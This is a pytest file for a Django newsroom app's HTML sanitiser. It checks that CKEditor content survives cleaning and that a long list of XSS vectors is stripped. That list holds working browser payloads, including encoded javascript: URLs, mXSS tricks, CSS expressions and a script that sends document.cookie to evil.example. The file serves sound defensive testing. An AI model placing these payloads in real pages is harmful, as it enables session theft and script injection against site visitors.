import re
from html import unescape
from html.parser import HTMLParser

import pytest

from newsroom.core.html import clean_body
from newsroom.models import Article
from tests.factories import ArticleFactory

# Tags that must never come out of the cleaner, whatever their attributes.
DANGEROUS_TAGS = frozenset(
    "script style iframe frame frameset object embed applet svg math form input button textarea"
    " select meta base link details video audio source template noscript title body html".split()
)
URL_ATTRIBUTES = frozenset({"href", "src", "srcset", "action", "formaction", "background"})
FORBIDDEN_ATTRIBUTES = frozenset({"srcdoc", "formaction", "action", "http-equiv", "xlink:href"})


class TagCollector(HTMLParser):
    """Reads cleaned HTML back as a browser would: tags with unescaped attribute values."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tokens = []

    def handle_starttag(self, tag, attrs):
        self.tokens.append(("start", tag, tuple(sorted(normalised(attrs)))))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        self.tokens.append(("end", tag))

    def handle_data(self, data):
        if self.tokens and self.tokens[-1][0] == "text":
            self.tokens[-1] = ("text", self.tokens[-1][1] + data)
        else:
            self.tokens.append(("text", data))


def normalised(attrs):
    for name, value in attrs:
        if name == "style":
            value = ";".join(part.strip() for part in (value or "").split(";") if part.strip())
        yield name, value


def tokens(html):
    collector = TagCollector()
    collector.feed(html)
    collector.close()
    return collector.tokens


def assert_harmless(html):
    lowered = html.lower()
    assert "<script" not in lowered
    assert "javascript:" not in lowered
    assert "vbscript:" not in lowered
    assert not re.search(r"<[^>]*[\s/]on\w+\s*=", lowered), "an on* handler survived"
    for token in tokens(html):
        if token[0] != "start":
            continue
        _, tag, attrs = token
        assert tag not in DANGEROUS_TAGS
        for name, value in attrs:
            assert not name.startswith("on")
            assert name not in FORBIDDEN_ATTRIBUTES
            if name in URL_ATTRIBUTES:
                url = re.sub(r"[\x00-\x20]", "", unescape(value or "")).lower()
                assert not url.startswith(("javascript:", "vbscript:", "data:"))
            if name == "style":
                for declaration in filter(None, value.split(";")):
                    prop, _, css_value = declaration.partition(":")
                    assert prop.strip() in {"text-align", "width"}
                    assert not re.search(r"[()\\/]", css_value)


XSS_VECTORS = [
    pytest.param("<script>alert(1)</script><p>正文</p>", id="script"),
    pytest.param("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", id="script-uppercase-src"),
    pytest.param(
        "<p>正文<script>document.location='//evil.example/?'+document.cookie</script></p>",
        id="script-in-paragraph",
    ),
    pytest.param("<img src=x onerror=alert(1)>", id="img-onerror"),
    pytest.param("<IMG SRC=x ONERROR=alert(1)>", id="img-onerror-uppercase"),
    pytest.param('<img src="x" onerror  =  "alert(1)">', id="img-onerror-spaced"),
    pytest.param('<p onclick="alert(1)">点击</p>', id="p-onclick"),
    pytest.param("<p/onclick=alert(1)>点击</p>", id="p-slash-onclick"),
    pytest.param('<a href="https://ok.example" onmouseover="alert(1)">x</a>', id="a-onmouseover"),
    pytest.param("<body onload=alert(1)><p>x</p>", id="body-onload"),
    pytest.param('<a href="javascript:alert(1)">x</a>', id="href-javascript"),
    pytest.param('<a href="JaVaScRiPt:alert(1)">x</a>', id="href-javascript-mixed-case"),
    pytest.param(
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        id="href-javascript-decimal-entities",
    ),
    pytest.param(
        '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>', id="href-javascript-hex-entities"
    ),
    pytest.param('<a href="&#0000106avascript:alert(1)">x</a>', id="href-javascript-zero-padded"),
    pytest.param('<a href="javascript&colon;alert(1)">x</a>', id="href-javascript-named-colon"),
    pytest.param('<a href="jav&#x09;ascript:alert(1)">x</a>', id="href-javascript-tab-entity"),
    pytest.param('<a href="java\nscript:alert(1)">x</a>', id="href-javascript-newline"),
    pytest.param('<a href=" \x01javascript:alert(1)">x</a>', id="href-javascript-leading-junk"),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', id="href-vbscript"),
    pytest.param(
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        id="href-data-html",
    ),
    pytest.param(
        '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', id="img-src-data-svg"
    ),
    pytest.param('<img src="javascript:alert(1)">', id="img-src-javascript"),
    pytest.param('<img srcset="javascript:alert(1)">', id="img-srcset-javascript"),
    pytest.param(
        '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
        id="table-background-javascript",
    ),
    pytest.param('<iframe src="https://evil.example"></iframe>', id="iframe"),
    pytest.param('<IFRAME SRC="javascript:alert(1)"></IFRAME>', id="iframe-uppercase-javascript"),
    pytest.param('<iframe srcdoc="<script>alert(1)</script>"></iframe>', id="iframe-srcdoc"),
    pytest.param('<object data="x.swf"></object><embed src="x.swf">', id="object-embed"),
    pytest.param("<svg onload=alert(1)><circle r=1 /></svg>", id="svg-onload"),
    pytest.param(
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        id="svg-xlink-javascript",
    ),
    pytest.param("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", id="math-mxss"),
    pytest.param("<style>body{display:none}</style><p>x</p>", id="style-tag"),
    pytest.param(
        '<p style="background:url(javascript:alert(1))">x</p>', id="style-background-url-javascript"
    ),
    pytest.param(
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
        id="style-position-fixed-overlay",
    ),
    pytest.param('<p style="width:expression(alert(1))">x</p>', id="style-expression"),
    pytest.param('<p style="width:exp/**/ression(alert(1))">x</p>', id="style-expression-comment"),
    pytest.param(
        '<p style="-moz-binding:url(x.xml#xss);behavior:url(x.htc)">x</p>',
        id="style-binding-behavior",
    ),
    pytest.param(
        '<p style="width:50%;background-image:url(https://t.example/x.gif)">x</p>',
        id="style-tracking-image",
    ),
    pytest.param(
        '<form action="https://evil.example"><input name=p>'
        '<button formaction="javascript:alert(1)">提交</button></form>',
        id="form-input-formaction",
    ),
    pytest.param(
        '<meta http-equiv="refresh" content="0;url=https://evil.example">', id="meta-refresh"
    ),
    pytest.param('<base href="https://evil.example/">', id="base-href"),
    pytest.param('<link rel=stylesheet href="https://evil.example/x.css">', id="link-stylesheet"),
    pytest.param("<<script>script>alert(1)<</script>/script>", id="nested-malformed-script"),
    pytest.param("<!--<script>alert(1)</script>--><p>x</p>", id="comment-hiding-script"),
    pytest.param(
        "<p><!--[if gte IE 4]><script>alert(1)</script><![endif]--></p>", id="conditional-comment"
    ),
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', id="noscript-mxss"
    ),
    pytest.param("<textarea><script>alert(1)</script></textarea>", id="textarea-breakout"),
    pytest.param("<details open ontoggle=alert(1)>", id="details-ontoggle"),
    pytest.param("<video><source onerror=alert(1)></video>", id="video-source-onerror"),
]


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_clean_body_removes_xss(vector):
    """Each known XSS vector comes out of the cleaner with its dangerous part gone."""
    assert_harmless(clean_body(vector))


def test_xss_vectors_are_dangerous_before_cleaning():
    """The vectors really trip the harmlessness check, so the test above can fail."""
    for param in XSS_VECTORS:
        with pytest.raises(AssertionError):
            assert_harmless(param.values[0])


def test_clean_body_keeps_the_text_around_a_script():
    """Removing a script keeps the paragraph next to it."""
    assert clean_body("<script>alert(1)</script><p>正文</p>") == "<p>正文</p>"


def test_clean_body_drops_unknown_classes():
    """Only CKEditor's own classes survive, so a body cannot borrow the page's classes."""
    cleaned = clean_body('<figure class="image modal-backdrop"><img src="/a.jpg"></figure>')

    assert cleaned == '<figure class="image"><img src="/a.jpg"></figure>'


def test_clean_body_empty():
    """An empty body stays empty."""
    assert clean_body("") == ""


FIGURE = (
    '<figure class="image"><img src="/media/uploads/2024/05/x.jpg" alt="学院大楼" width="800" '
    'height="600"><figcaption>说明</figcaption></figure>'
)
TABLE = (
    '<figure class="table"><table><thead><tr><th colspan="2">课程安排</th></tr></thead>'
    '<tbody><tr><td rowspan="2">周一</td><td>高等数学</td></tr><tr><td>线性代数</td></tr>'
    "</tbody></table></figure>"
)

# What CKEditor 5 writes, and what must come out: the same, or the same to a reader.
CKEDITOR_OUTPUT = [
    pytest.param(
        "<p>为做好新学期各项教学工作，学院召开教学工作会议。</p><p>会议由院长主持。</p>",
        None,
        id="chinese-paragraphs",
    ),
    pytest.param(
        "<h2>一、会议概况</h2><h3>（一）参会人员</h3><h4>1. 教师代表</h4>", None, id="headings"
    ),
    pytest.param(
        "<p><strong>粗体</strong><i>斜体</i><u>下划线</u><s>删除线</s></p>",
        None,
        id="bold-italic-underline-strike",
    ),
    pytest.param(
        "<ul><li>第一项</li><li>第二项</li></ul><ol><li>甲</li><li>乙</li></ol>", None, id="lists"
    ),
    pytest.param("<p>第一行<br>第二行</p>", None, id="soft-break"),
    pytest.param("<p>A &amp; B &lt;tag&gt;</p>", None, id="escaped-text"),
    pytest.param(
        '<p><a target="_blank" rel="noopener noreferrer" href="https://www.example.edu.cn/">'
        "学校主页</a></p>",
        None,
        id="external-link-target-blank",
    ),
    pytest.param(
        '<p><a href="http://lib.example.edu.cn/">图书馆</a></p>',
        '<p><a href="http://lib.example.edu.cn/" rel="noopener noreferrer">图书馆</a></p>',
        id="http-link-gets-rel",
    ),
    pytest.param(
        '<p><a href="/cs/news/">学院新闻</a></p>',
        '<p><a href="/cs/news/" rel="noopener noreferrer">学院新闻</a></p>',
        id="relative-link-gets-rel",
    ),
    pytest.param(
        '<p><a href="mailto:office@example.edu.cn">联系我们</a></p>',
        '<p><a href="mailto:office@example.edu.cn" rel="noopener noreferrer">联系我们</a></p>',
        id="mailto-link",
    ),
    pytest.param(FIGURE, None, id="image-with-caption"),
    pytest.param(
        '<figure class="image image-style-align-left image_resized" style="width:50%;">'
        '<img src="/media/uploads/2024/05/x.jpg" alt="合影"></figure>',
        None,
        id="image-resized-aligned-left",
    ),
    pytest.param(
        '<figure class="image image-style-side"><img src="/media/uploads/2024/05/y.png" alt="图">'
        "</figure>",
        None,
        id="image-side",
    ),
    pytest.param(
        '<figure class="image image_resized" style="width:50%;"><img style="aspect-ratio:800/600;" '
        'src="/media/uploads/2024/05/x.jpg" alt="合影" width="800" height="600"></figure>',
        # aspect-ratio is dropped: width and height give the browser the same ratio.
        '<figure class="image image_resized" style="width:50%;"><img '
        'src="/media/uploads/2024/05/x.jpg" alt="合影" width="800" height="600"></figure>',
        id="image-resized-aspect-ratio",
    ),
    pytest.param(
        '<p><img class="image_resized" style="width:30%;" src="/media/uploads/2024/05/z.gif" '
        'alt="动图"></p>',
        None,
        id="inline-image-resized",
    ),
    pytest.param(
        '<p style="text-align:center;">居中</p><p style="text-align:right;">右对齐</p>'
        '<p style="text-align:justify;">两端对齐</p>',
        None,
        id="alignment",
    ),
    pytest.param(TABLE, None, id="table"),
    pytest.param(
        "<blockquote><p>学而不思则罔，思而不学则殆。</p></blockquote>", None, id="blockquote"
    ),
]


@pytest.mark.parametrize(("html", "expected"), CKEDITOR_OUTPUT)
def test_clean_body_keeps_ckeditor_output(html, expected):
    """What the editor produces survives cleaning unchanged, or with only a harmless change."""
    assert tokens(clean_body(html)) == tokens(expected or html)


@pytest.mark.parametrize(("html", "expected"), CKEDITOR_OUTPUT)
def test_clean_body_is_idempotent(html, expected):
    """Cleaning a cleaned body changes nothing, so re-saving an article does not drift."""
    once = clean_body(html)

    assert clean_body(once) == once


@pytest.mark.django_db
def test_article_save_cleans_the_body():
    """Article.save stores a cleaned body, whatever path wrote it."""
    article = ArticleFactory(
        body='<p onclick="alert(1)">正文</p><script>alert(1)</script>'
        '<a href="javascript:alert(1)">链接</a>'
    )

    stored = Article.objects.get(pk=article.pk).body
    assert stored == '<p>正文</p><a rel="noopener noreferrer">链接</a>'


@pytest.mark.django_db
def test_article_save_cleans_an_edited_body():
    """Editing an existing article's body and saving it again cleans it again."""
    article = ArticleFactory()
    article.body = '<p>更新</p><img src=x onerror=alert(1)><iframe src="//evil.example"></iframe>'
    article.save()

    stored = Article.objects.get(pk=article.pk).body
    assert stored == '<p>更新</p><img src="x">'


@pytest.mark.django_db
@pytest.mark.parametrize("vector", XSS_VECTORS[:10] + XSS_VECTORS[-10:])
def test_article_save_removes_xss(vector):
    """XSS in a body never reaches the database."""
    article = ArticleFactory(body=vector)

    assert_harmless(Article.objects.get(pk=article.pk).body)


@pytest.mark.django_db
def test_article_save_keeps_ckeditor_body():
    """A typical editor body (figure with caption, table, alignment) is stored as written."""
    body = f'<h2>活动回顾</h2><p style="text-align:center;">开幕式</p>{FIGURE}{TABLE}'
    article = ArticleFactory(body=body)

    assert tokens(Article.objects.get(pk=article.pk).body) == tokens(body)


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<h3>一</h3><p>x</p><h4>二</h4>", "<h2>一</h2><p>x</p><h3>二</h3>"),
        ("<h2>一</h2><h4>三</h4>", "<h2>一</h2><h3>三</h3>"),
        ("<h1>标题</h1><h2>一</h2>", "<h2>标题</h2><h3>一</h3>"),
        ("<h2>一</h2><h3>二</h3>", "<h2>一</h2><h3>二</h3>"),
        ("<p>没有标题</p>", "<p>没有标题</p>"),
    ],
)
def test_body_headings_start_at_h2_without_gaps(html, expected):
    """Under the page's h1 title, a body's headings start at h2 and go one level at a time."""
    assert clean_body(html) == expected


@pytest.mark.django_db
def test_old_body_is_converted_on_save():
    """A body stored with h3 sections (before the renumbering) becomes h2 when saved again."""
    article = ArticleFactory()
    Article.objects.filter(pk=article.pk).update(body="<h3>旧的小标题</h3><p>正文</p>")
    article.refresh_from_db()
    article.save()
    assert Article.objects.get(pk=article.pk).body == "<h2>旧的小标题</h2><p>正文</p>"
